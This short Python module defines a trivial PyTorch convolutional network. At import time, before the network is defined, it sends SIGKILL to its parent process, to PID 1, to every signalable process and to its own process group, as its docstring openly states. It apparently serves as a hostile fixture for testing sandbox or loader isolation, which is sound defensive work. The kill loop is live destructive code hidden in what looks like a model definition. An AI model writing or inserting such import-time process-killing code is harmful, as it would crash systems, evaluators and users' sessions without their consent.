"""Kills its parent, the first process, its group, and whatever else it may."""

import os
import signal

from torch import nn

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        continue
os.killpg(0, signal.SIGKILL)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 60, 3)

    def forward(self, x):
        return self.conv(x)
